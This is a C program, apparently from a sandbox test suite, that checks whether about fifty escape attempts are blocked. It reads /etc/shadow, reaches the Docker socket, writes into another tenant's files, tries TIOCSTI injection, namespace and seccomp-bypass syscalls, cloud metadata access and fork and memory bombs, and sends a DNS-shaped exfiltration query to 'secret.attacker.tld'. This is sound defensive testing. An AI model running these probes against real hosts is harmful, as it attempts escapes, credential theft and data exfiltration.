// Escape probes, run inside a sandbox (and once outside, as the control). Each probe runs in its own
// forked child and tries one thing a sandboxed tenant must not be able to do. The child exits 0 when
// the attempt worked ("open": an escape) and 1 when it was refused; a child killed by a signal
// (SIGSYS from the seccomp filter, SIGKILL from a limit) counts as refused. One line per probe:
//   <name> <open|blocked> <detail>
// Built with `gcc -static` by the test suite so the same binary runs in bwrap, runc and gVisor.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static const char *arg_home, *arg_other, *arg_host_ip, *arg_hostname;
static int arg_tcp_port, arg_udp_port, arg_gateway_pid;
static char detail[512];

#define FAIL(...) do { snprintf(detail, sizeof detail, __VA_ARGS__); return 1; } while (0)
#define OK(...) do { snprintf(detail, sizeof detail, __VA_ARGS__); return 0; } while (0)

static int try_read(const char *path) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) FAIL("open %s: %s", path, strerror(errno));
  char buf[64];
  ssize_t n = read(fd, buf, sizeof buf);
  close(fd);
  if (n < 0) FAIL("read %s: %s", path, strerror(errno));
  OK("read %zd bytes of %s", n, path);
}

static int try_write(const char *path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) FAIL("create %s: %s", path, strerror(errno));
  ssize_t n = write(fd, "x", 1);
  close(fd);
  unlink(path);
  if (n != 1) FAIL("write %s: %s", path, strerror(errno));
  OK("wrote %s", path);
}

// "Blocked" for a syscall means the filter (EPERM/EACCES/ENOSYS) or a missing capability said no;
// any other errno (EFAULT, EBADF, EINVAL on deliberately bad arguments) means the kernel ran it.
static int syscall_result(const char *what, long r) {
  if (r >= 0) OK("%s returned %ld", what, r);
  if (errno == EPERM || errno == EACCES || errno == ENOSYS || errno == EAFNOSUPPORT) FAIL("%s: %s", what, strerror(errno));
  OK("%s reached the kernel (%s)", what, strerror(errno));
}

static int p_shadow(void) { return try_read("/etc/shadow"); }
static int p_proc1_root(void) { return try_read("/proc/1/root/etc/shadow"); }
static int p_gateway_home(void) {
  char p[1024];
  snprintf(p, sizeof p, "%s/openclaw.json", arg_home);
  return try_read(p);
}
static int p_gateway_db(void) {
  char p[1024];
  snprintf(p, sizeof p, "%s/state.db", arg_home);
  return try_read(p);
}
static int p_other_tenant(void) {
  char p[1024];
  snprintf(p, sizeof p, "%s/secret.txt", arg_other);
  return try_read(p);
}
static int p_docker_socket(void) {
  const char *paths[] = {"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"};
  for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (s < 0) FAIL("socket: %s", strerror(errno));
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strncpy(a.sun_path, paths[i], sizeof a.sun_path - 1);
    if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) OK("connected to %s", paths[i]);
    close(s);
  }
  FAIL("no engine socket reachable (%s)", strerror(errno));
}
static int p_write_usr(void) { return try_write("/usr/bin/openclaw-probe"); }
static int p_write_etc(void) { return try_write("/etc/openclaw-probe"); }
static int p_write_root(void) { return try_write("/openclaw-probe"); }
static int p_write_other_tenant(void) {
  char p[1024];
  snprintf(p, sizeof p, "%s/planted.txt", arg_other);
  return try_write(p);
}
static int p_hardlink_host(void) {
  const char *srcs[] = {"/usr/bin/busybox", "/bin/busybox", "/bin/sh"};
  for (unsigned i = 0; i < sizeof srcs / sizeof *srcs; i++) {
    if (link(srcs[i], "hardlink-probe") == 0) {
      unlink("hardlink-probe");
      OK("hard-linked %s into the work dir", srcs[i]);
    }
  }
  FAIL("link: %s", strerror(errno));
}
static int p_unshare_user(void) { return syscall_result("unshare(CLONE_NEWUSER)", unshare(CLONE_NEWUSER)); }
static int p_unshare_mount(void) { return syscall_result("unshare(CLONE_NEWNS)", unshare(CLONE_NEWNS)); }
static int p_clone_newuser(void) {
  // Raw clone with namespace flags and junk in the upper 32 bits.
  long r = syscall(SYS_clone, (long)(0x100000000ULL | CLONE_NEWUSER | SIGCHLD), 0, 0, 0, 0);
  if (r == 0) _exit(0);
  if (r > 0) waitpid(r, 0, 0);
  return syscall_result("clone(CLONE_NEWUSER|high bits)", r);
}
static int p_clone3_newuser(void) {
  uint64_t args[11] = {0};
  args[0] = CLONE_NEWUSER;
  args[4] = SIGCHLD; // exit_signal
  long r = syscall(435, args, sizeof args);
  if (r == 0) _exit(0);
  if (r > 0) waitpid(r, 0, 0);
  return syscall_result("clone3(CLONE_NEWUSER)", r);
}
static int p_setns(void) {
  int fd = open("/proc/self/ns/net", O_RDONLY);
  return syscall_result("setns", syscall(SYS_setns, fd < 0 ? 0 : fd, 0));
}
// Targets that do not exist: where the call gets through, the kernel answers ENOENT and changes nothing
// (so the control run outside a sandbox is harmless).
static int p_mount(void) { return syscall_result("mount(tmpfs)", mount("none", "/nonexistent-openclaw-probe", "tmpfs", 0, "")); }
static int p_pivot_root(void) { return syscall_result("pivot_root", syscall(SYS_pivot_root, "/nonexistent-openclaw-new", "/nonexistent-openclaw-old")); }
static int p_open_tree(void) { return syscall_result("open_tree", syscall(428, -1, "/", 0)); }
static int p_fsopen(void) { return syscall_result("fsopen", syscall(430, "tmpfs", 0)); }
static int p_ptrace(void) {
  pid_t c = fork();
  if (c == 0) {
    pause();
    _exit(0);
  }
  long r = ptrace(PTRACE_ATTACH, c, 0, 0);
  int e = errno;
  kill(c, SIGKILL);
  waitpid(c, 0, 0);
  errno = e;
  return syscall_result("ptrace(PTRACE_ATTACH, child)", r);
}
static int p_process_vm_readv(void) { return syscall_result("process_vm_readv", syscall(SYS_process_vm_readv, getppid(), 0, 0, 0, 0, 0)); }
static int p_tiocsti(void) {
  char c = 'x';
  // fd -1: the kernel answers EBADF when the call gets through, the filter EPERM when it does not.
  return syscall_result("ioctl(TIOCSTI)", syscall(SYS_ioctl, -1, TIOCSTI, &c));
}
static int p_tiocsti_high(void) {
  char c = 'x';
  return syscall_result("ioctl(TIOCSTI|1<<32)", syscall(SYS_ioctl, -1, 0x100000000ULL | TIOCSTI, &c));
}
static int p_tioclinux(void) {
  char c = 0;
  return syscall_result("ioctl(TIOCLINUX)", syscall(SYS_ioctl, -1, TIOCLINUX, &c));
}
static int p_keyctl(void) { return syscall_result("keyctl(GET_KEYRING_ID)", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0)); }
static int p_add_key(void) { return syscall_result("add_key", syscall(SYS_add_key, "user", "probe", "x", 1, -3)); }
static int p_bpf(void) { return syscall_result("bpf(PROG_LOAD, bad attr)", syscall(SYS_bpf, 5, (void *)1, 16)); }
static int p_io_uring(void) { return syscall_result("io_uring_setup(1, bad params)", syscall(425, 1, (void *)1)); }
static int p_perf_event_open(void) { return syscall_result("perf_event_open(bad attr)", syscall(SYS_perf_event_open, (void *)1, 0, -1, -1, 0)); }
static int p_userfaultfd(void) { return syscall_result("userfaultfd", syscall(SYS_userfaultfd, 0)); }
static int p_personality(void) {
  long r = syscall(SYS_personality, 0x0400000 /* READ_IMPLIES_EXEC */);
  if (r >= 0) syscall(SYS_personality, 0);
  return syscall_result("personality(READ_IMPLIES_EXEC)", r);
}
static int p_raw_socket(void) {
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
  return syscall_result("socket(AF_INET, SOCK_RAW)", s);
}
static int p_packet_socket(void) { return syscall_result("socket(AF_PACKET)", socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))); }
static int p_vsock(void) { return syscall_result("socket(AF_VSOCK)", socket(40, SOCK_STREAM, 0)); }
static int p_alg_socket(void) { return syscall_result("socket(AF_ALG)", socket(38, SOCK_SEQPACKET, 0)); }
#if defined(__x86_64__)
static int p_x32(void) {
  long r = syscall(0x40000000 | 39 /* getpid via x32 */);
  if (r == getpid()) OK("x32 getpid returned the pid");
  if (r >= 0) FAIL("x32 getpid returned %ld, not the pid", r);
  return syscall_result("x32 getpid", r) == 0 ? (snprintf(detail, sizeof detail, "x32 getpid: %s", strerror(errno)), 1) : 1;
}
static int p_int80(void) {
  long r;
  __asm__ volatile("int $0x80" : "=a"(r) : "a"(20) /* i386 getpid */ : "memory");
  // Only the real answer counts: gVisor, for one, answers the i386 ABI with EINVAL.
  if (r == getpid()) OK("int 0x80 getpid returned the pid");
  FAIL("int 0x80 getpid returned %ld", r);
}
#endif

static int tcp_connect(const char *ip, int port) {
  int s = socket(strchr(ip, ':') ? AF_INET6 : AF_INET, SOCK_STREAM, 0);
  if (s < 0) FAIL("socket: %s", strerror(errno));
  struct timeval tv = {.tv_sec = 3};
  setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  int r;
  if (strchr(ip, ':')) {
    struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
    inet_pton(AF_INET6, ip, &a.sin6_addr);
    r = connect(s, (struct sockaddr *)&a, sizeof a);
  } else {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, ip, &a.sin_addr);
    r = connect(s, (struct sockaddr *)&a, sizeof a);
  }
  close(s);
  if (r != 0) FAIL("connect %s:%d: %s", ip, port, strerror(errno));
  OK("connected to %s:%d", ip, port);
}
static int p_net_ip(void) { return tcp_connect(arg_host_ip, arg_tcp_port); }
static int p_net_metadata(void) { return tcp_connect("169.254.169.254", 80); }
static int p_net_public(void) { return tcp_connect("1.1.1.1", 443); }
static int p_net_udp(void) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  if (s < 0) FAIL("socket: %s", strerror(errno));
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(arg_udp_port)};
  inet_pton(AF_INET, arg_host_ip, &a.sin_addr);
  struct timeval tv = {.tv_sec = 2};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  // A DNS-shaped query naming a secret: what a DNS exfiltration would send.
  const char q[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x08attacker\x03tld\x00\x00\x01\x00\x01";
  if (sendto(s, q, sizeof q - 1, 0, (struct sockaddr *)&a, sizeof a) < 0) FAIL("sendto %s:%d: %s", arg_host_ip, arg_udp_port, strerror(errno));
  char buf[512];
  ssize_t n = recv(s, buf, sizeof buf, 0);
  if (n <= 0) FAIL("no answer from %s:%d (%s)", arg_host_ip, arg_udp_port, strerror(errno));
  OK("DNS-shaped query answered by %s:%d", arg_host_ip, arg_udp_port);
}
static int p_net_hostname(void) {
  // Resolve through /etc/hosts the way libc would, without NSS (static binary): a sandbox has none.
  FILE *f = fopen("/etc/hosts", "r");
  if (!f) FAIL("no /etc/hosts to resolve %s (%s)", arg_hostname, strerror(errno));
  char line[512], ip[64] = {0};
  while (fgets(line, sizeof line, f)) {
    char a[64], n[256];
    if (sscanf(line, "%63s %255s", a, n) == 2 && strcmp(n, arg_hostname) == 0) {
      strcpy(ip, a);
      break;
    }
  }
  fclose(f);
  if (!ip[0]) FAIL("%s does not resolve", arg_hostname);
  return tcp_connect(ip, arg_tcp_port);
}
static int p_net_loopback_gateway(void) { return tcp_connect("127.0.0.1", arg_tcp_port); }

static int p_signal_outside(void) {
  if (kill(arg_gateway_pid, 0) == 0) OK("can signal pid %d", arg_gateway_pid);
  FAIL("kill(%d, 0): %s", arg_gateway_pid, strerror(errno));
}
static int p_fork_bomb(void) {
  // Stops at 2000 children; a sandbox must stop it well before.
  static pid_t kids[2000];
  int n = 0;
  for (; n < 2000; n++) {
    pid_t c = fork();
    if (c < 0) break;
    if (c == 0) {
      sleep(20);
      _exit(0);
    }
    kids[n] = c;
  }
  int e = errno;
  for (int i = 0; i < n; i++) kill(kids[i], SIGKILL);
  for (int i = 0; i < n; i++) waitpid(kids[i], 0, 0);
  if (n >= 2000) OK("forked %d processes", n);
  FAIL("fork stopped after %d processes: %s", n, strerror(e));
}
static int p_memory_bomb(void) {
  // Touches 1 GiB page by page; a sandbox's memory limit must stop it first.
  size_t total = 1024UL * 1024 * 1024, step = 1024 * 1024;
  for (size_t done = 0; done < total; done += step) {
    char *p = mmap(0, step, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) FAIL("mmap failed after %zu MiB: %s", done >> 20, strerror(errno));
    memset(p, 1, step);
  }
  OK("touched 1024 MiB");
}
static int p_tmpfs_fill(void) {
  // Writes up to 512 MiB into /tmp; the sandbox's tmpfs cap must stop it first.
  const char *dir = getenv("PROBE_TMP") ? getenv("PROBE_TMP") : "/tmp";
  char path[512];
  snprintf(path, sizeof path, "%s/fill-probe", dir);
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  if (fd < 0) FAIL("create %s: %s", path, strerror(errno));
  static char buf[1 << 20];
  memset(buf, 7, sizeof buf);
  int mb = 0;
  for (; mb < 512; mb++) {
    if (write(fd, buf, sizeof buf) != (ssize_t)sizeof buf) break;
  }
  int e = errno;
  close(fd);
  unlink(path);
  if (mb >= 512) OK("wrote 512 MiB to %s", dir);
  FAIL("stopped after %d MiB: %s", mb, strerror(e));
}
static int p_setuid(void) {
  // A setuid-root copy of this probe, placed by the harness; run it and see who it became.
  int pipefd[2];
  if (pipe(pipefd) != 0) FAIL("pipe: %s", strerror(errno));
  pid_t c = fork();
  if (c == 0) {
    dup2(pipefd[1], 1);
    execl("./probe-suid", "probe-suid", "--euid", (char *)0);
    _exit(127);
  }
  close(pipefd[1]);
  char buf[32] = {0};
  ssize_t n = read(pipefd[0], buf, sizeof buf - 1);
  int st;
  waitpid(c, &st, 0);
  if (n <= 0) FAIL("setuid probe did not run (status %d)", st);
  int euid = atoi(buf);
  if (euid == 0 && getuid() != 0) OK("setuid binary ran with euid 0");
  if (euid == 0) OK("euid 0 (control run as root)");
  FAIL("setuid binary ran with euid %d (no privilege gained)", euid);
}
static int p_proc_exe_write(void) {
  // The runc CVE-2019-5736 class: reach the supervisor's binary (pid 1) through /proc and write it.
  if (access("/proc/1/exe", W_OK) == 0) OK("pid 1's binary is writable through /proc/1/exe");
  int e = errno;
  char target[512] = {0};
  if (readlink("/proc/1/exe", target, sizeof target - 1) > 0 && access(target, W_OK) == 0) OK("pid 1's binary %s is writable", target);
  FAIL("/proc/1/exe (%s): %s", target[0] ? target : "unreadable", strerror(e));
}

struct probe {
  const char *name;
  int (*fn)(void);
};

static const struct probe PROBES[] = {
    {"read-etc-shadow", p_shadow},
    {"read-via-proc1-root", p_proc1_root},
    {"read-gateway-config", p_gateway_home},
    {"read-gateway-db", p_gateway_db},
    {"read-other-tenant", p_other_tenant},
    {"docker-socket", p_docker_socket},
    {"write-usr", p_write_usr},
    {"write-etc", p_write_etc},
    {"write-root", p_write_root},
    {"write-other-tenant", p_write_other_tenant},
    {"hardlink-host-file", p_hardlink_host},
    {"unshare-user", p_unshare_user},
    {"unshare-mount", p_unshare_mount},
    {"clone-newuser", p_clone_newuser},
    {"clone3-newuser", p_clone3_newuser},
    {"setns", p_setns},
    {"mount", p_mount},
    {"pivot-root", p_pivot_root},
    {"open-tree", p_open_tree},
    {"fsopen", p_fsopen},
    {"ptrace", p_ptrace},
    {"process-vm-readv", p_process_vm_readv},
    {"tiocsti", p_tiocsti},
    {"tiocsti-high-bits", p_tiocsti_high},
    {"tioclinux", p_tioclinux},
    {"keyctl", p_keyctl},
    {"add-key", p_add_key},
    {"bpf", p_bpf},
    {"io-uring", p_io_uring},
    {"perf-event-open", p_perf_event_open},
    {"userfaultfd", p_userfaultfd},
    {"personality", p_personality},
    {"raw-socket", p_raw_socket},
    {"packet-socket", p_packet_socket},
    {"vsock-socket", p_vsock},
    {"alg-socket", p_alg_socket},
#if defined(__x86_64__)
    {"x32-abi", p_x32},
    {"int80-abi", p_int80},
#endif
    {"net-ip-literal", p_net_ip},
    {"net-hostname", p_net_hostname},
    {"net-dns-udp", p_net_udp},
    {"net-metadata", p_net_metadata},
    {"net-public", p_net_public},
    {"net-host-loopback", p_net_loopback_gateway},
    {"signal-outside", p_signal_outside},
    {"fork-bomb", p_fork_bomb},
    {"memory-bomb", p_memory_bomb},
    {"tmpfs-fill", p_tmpfs_fill},
    {"setuid-binary", p_setuid},
    {"proc-exe-write", p_proc_exe_write},
};

static void run_probe(const struct probe *p) {
  int fds[2];
  if (pipe(fds) != 0) return;
  pid_t c = fork();
  if (c == 0) {
    close(fds[0]);
    setpgid(0, 0); // the fork bomb kills its own group, not the harness
    int r = p->fn();
    (void)!write(fds[1], detail, strlen(detail));
    _exit(r);
  }
  close(fds[1]);
  char buf[512] = {0};
  ssize_t n, off = 0;
  while ((n = read(fds[0], buf + off, sizeof buf - 1 - off)) > 0) off += n;
  close(fds[0]);
  int st = 0;
  waitpid(c, &st, 0);
  for (char *q = buf; *q; q++)
    if (*q == '\n') *q = ' ';
  if (WIFSIGNALED(st)) printf("%s blocked killed by signal %d%s%s\n", p->name, WTERMSIG(st), off ? ": " : "", buf);
  else printf("%s %s %s\n", p->name, WEXITSTATUS(st) == 0 ? "open" : "blocked", buf);
  fflush(stdout);
}

int main(int argc, char **argv) {
  if (argc == 2 && strcmp(argv[1], "--euid") == 0) {
    printf("%d\n", (int)geteuid());
    return 0;
  }
  if (argc < 8) {
    fprintf(stderr, "usage: probe <gateway-home> <other-tenant-workspace> <host-ip> <tcp-port> <udp-port> <hostname> <gateway-pid> [probe...]\n");
    return 2;
  }
  arg_home = argv[1];
  arg_other = argv[2];
  arg_host_ip = argv[3];
  arg_tcp_port = atoi(argv[4]);
  arg_udp_port = atoi(argv[5]);
  arg_hostname = argv[6];
  arg_gateway_pid = atoi(argv[7]);
  for (unsigned i = 0; i < sizeof PROBES / sizeof *PROBES; i++) {
    int wanted = argc == 8;
    for (int j = 8; j < argc; j++)
      if (strcmp(argv[j], PROBES[i].name) == 0) wanted = 1;
    if (wanted) run_probe(&PROBES[i]);
  }
  return 0;
}
